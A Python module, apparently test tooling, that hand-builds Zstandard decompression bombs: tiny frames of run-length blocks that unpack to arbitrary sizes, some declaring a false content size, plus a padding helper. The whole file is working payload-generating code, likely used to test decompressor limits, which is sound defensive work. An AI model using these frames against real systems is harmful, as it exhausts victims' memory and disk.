"""Hostile Zstandard frames, made by hand (RFC 8878): small to send, huge to unpack."""

MAGIC = bytes.fromhex("28b52ffd")
WINDOW_1_MIB = bytes([10 << 3])
RUN_BYTES = 128 * 1024
"""The most that one block may unpack to."""


def run_blocks(unpacked_bytes: int, byte: bytes = b"x") -> bytes:
    """Blocks of 4 bytes that each say: this byte, 128 KiB times."""
    count = unpacked_bytes // RUN_BYTES
    block = (RUN_BYTES << 3 | 1 << 1).to_bytes(3, "little") + byte
    last = (RUN_BYTES << 3 | 1 << 1 | 1).to_bytes(3, "little") + byte
    return block * (count - 1) + last


def silent_bomb(unpacked_bytes: int) -> bytes:
    """A frame that does not say how large it becomes."""
    return MAGIC + b"\x00" + WINDOW_1_MIB + run_blocks(unpacked_bytes)


def bomb(unpacked_bytes: int, named_bytes: int) -> bytes:
    """A frame that says it becomes `named_bytes` large, whatever it really becomes."""
    return MAGIC + b"\xc0" + WINDOW_1_MIB + named_bytes.to_bytes(8, "little") + run_blocks(unpacked_bytes)


def padded(frame: bytes, size: int) -> bytes:
    """The frame, brought to this size by empty blocks in front of its last one."""
    empty = b"\x00\x00\x00"
    return frame[:-4] + empty * ((size - len(frame)) // 3) + frame[-4:]
